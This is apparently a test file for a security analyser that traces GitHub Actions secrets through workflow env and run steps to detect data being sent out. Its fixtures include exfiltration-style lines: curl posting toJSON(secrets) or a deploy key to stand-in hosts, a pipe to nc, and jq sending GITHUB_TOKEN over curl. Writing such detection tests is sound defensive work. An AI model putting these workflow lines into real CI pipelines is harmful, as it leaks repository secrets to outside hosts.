import { beforeAll, describe, expect, it } from 'vitest';
import { buildFileUnits } from '../../src/analysis/build-files.js';
import { analyzeUnits, prepareAnalyzers } from '../../src/analysis/code/index.js';
import type { Behaviour } from '../../src/analysis/facts.js';
import { LineMap } from '../../src/analysis/lines.js';
import {
  expressionSecret,
  singleQuoted,
  workflowEnv,
  workflowScript,
} from '../../src/analysis/workflow-expressions.js';
import { workflowSecretOf } from '../../src/analysis/workflow-secrets.js';
import { loadYaml } from '../../src/analysis/yaml-lib.js';
import { factsOf, ofKind } from '../support/code.js';

/**
 * GitHub Actions expressions a workflow step's shell sees filled in: secrets named by `${{ … }}` in `env`
 * or in the `run:` text carry the secret taint, everything else stays opaque.
 */

beforeAll(async () => {
  await loadYaml();
  await prepareAnalyzers();
});

describe('expressions that name secrets', () => {
  it('a named secret, the job token and the whole secrets context', () => {
    const named = expressionSecret(' secrets.DEPLOY_KEY ')!;
    expect(named).toMatchObject({ secret: 'env-secret', vars: ['DEPLOY_KEY'], taints: ['env', 'secret'] });
    expect(workflowSecretOf(named)).toBe('${{ secrets.DEPLOY_KEY }}');
    expect(expressionSecret("secrets['npm-token']")!.vars).toEqual(['NPM_TOKEN']);
    expect(expressionSecret('github.token')!.vars).toEqual(['GITHUB_TOKEN']);
    expect(workflowSecretOf(expressionSecret('secrets.GITHUB_TOKEN')!)).toBe('${{ secrets.GITHUB_TOKEN }}');
    const all = expressionSecret('toJSON(secrets)')!;
    expect(all.secret).toBe('env-all');
    expect(workflowSecretOf(all)).toBe('${{ toJSON(secrets) }}');
    // The github context holds the job's token.
    expect(workflowSecretOf(expressionSecret('tojson(github)')!)).toBe('${{ toJSON(github) }}');
    // A fallback between two secrets may be either.
    expect(expressionSecret('secrets.PROD_KEY || secrets.DEV_KEY')!.vars).toEqual(['PROD_KEY', 'DEV_KEY']);
    expect(expressionSecret('secrets[matrix.name]')!.vars).toEqual(['SECRET']);
  });

  it('booleans, hashes and other contexts are not secrets', () => {
    for (const e of [
      'toJSON(github.event)',
      'github.ref',
      "secrets.DEPLOY_KEY != ''",
      "contains(secrets.LIST, 'x')",
      '!secrets.X',
      'hashFiles(secrets.X)',
      'env.TOKEN',
      'vars.API_URL',
    ])
      expect(expressionSecret(e), e).toBeUndefined();
  });
});

describe('a step environment', () => {
  it('later levels win; secret-bearing values keep their taint; other expressions leave the variable unset', () => {
    const env = workflowEnv([
      { URL: 'https://a.example', TOKEN: '${{ secrets.T }}' },
      { AUTH: 'Bearer ${{ env.TOKEN }}', N: 3 },
      { URL: 'https://b.example', REF: '${{ github.ref }}', 'bad name': 'x' },
    ]);
    expect(env.vars).toEqual({ URL: 'https://b.example', N: '3' });
    expect(Object.keys(env.values).sort()).toEqual(['AUTH', 'TOKEN']);
    expect(env.values.AUTH).toMatchObject({ text: 'Bearer ${T}', secret: 'env-secret', vars: ['T'] });
  });
});

describe('run text as the shell sees it', () => {
  it('secret expressions become bound variables, closing single quotes around them', () => {
    const s = workflowScript(
      `curl "https://h.io/?k=\${{ secrets.K }}&r=\${{ github.ref }}"\necho '\${{ toJSON(secrets) }}' | nc h 1\n`,
    );
    expect(s.code).toBe(
      'curl "https://h.io/?k=${secrets_K}&r=${__workflow_expression}"\necho \'\'"${secrets_json}"\'\' | nc h 1\n',
    );
    expect(Object.keys(s.values)).toEqual(['secrets_K', 'secrets_json']);
    expect(workflowScript('echo ${{ env.BASE }}/x').code).toBe('echo ${BASE}/x');
  });

  it('single quotes are told apart from comments, escapes and here-document bodies', () => {
    const code = "# it's\necho \\' a 'b c' <<EOF\ndon't\nEOF\necho 'x'\n";
    const at = (s: string) => code.indexOf(s);
    expect(singleQuoted(code, [at('s\n'), at('a '), at('b c'), at('on'), at("x'")])).toEqual([
      false,
      false,
      true,
      false,
      true,
    ]);
  });
});

describe('workflow steps analysed with their secrets', () => {
  const sends = (wf: string): Array<Extract<Behaviour, { kind: 'send' }>> => {
    const lines = new LineMap(wf);
    const specs = buildFileUnits('ci/metrics.yml', wf, lines) ?? [];
    return analyzeUnits(lines, specs).behaviours.filter(
      (b): b is Extract<Behaviour, { kind: 'send' }> => b.kind === 'send',
    );
  };

  it('toJSON(secrets) in a step env, through jq, posted to the workflow-level URL', () => {
    const wf = [
      'env:',
      '  SINK: https://collect.metrics-vendor.io/runs',
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      '      - env:',
      '          ALL: ${{ toJSON(secrets) }}',
      '        run: |',
      `          jq -n --argjson s "$ALL" '{s: $s}' | curl -X POST --data @- "$SINK"`,
      '',
    ].join('\n');
    const [send] = sends(wf);
    expect(send?.endpoint.host).toBe('collect.metrics-vendor.io');
    expect(workflowSecretOf(send!.data)).toBe('${{ toJSON(secrets) }}');
  });

  it('a secret written inline into a single-quoted URL', () => {
    const wf = [
      'jobs:',
      '  a:',
      '    runs-on: ubuntu-latest',
      '    steps:',
      "      - run: curl -s -d 'k=${{ secrets.DEPLOY_KEY }}' https://drop.example-host.net/in",
      '',
    ].join('\n');
    const [send] = sends(wf);
    expect(send?.data.secret).toBe('env-secret');
    expect(workflowSecretOf(send!.data)).toBe('${{ secrets.DEPLOY_KEY }}');
  });
});

describe('jq named arguments', () => {
  it('a tainted --arg the filter uses flows to the output; a constant key does not change it', async () => {
    const r = await factsOf('shell', `jq -n --arg t "$GITHUB_TOKEN" '{t: $t}' | curl -d @- https://x.io\n`);
    expect(ofKind(r, 'send')[0]?.data.secret).toBe('env-secret');
    const quiet = await factsOf(
      'shell',
      `jq -n --arg t "$GITHUB_TOKEN" '{a: 1}' | curl -d @- https://x.io\n`,
    );
    expect(ofKind(quiet, 'send')[0]?.data.taints ?? []).not.toContain('secret');
  });
});
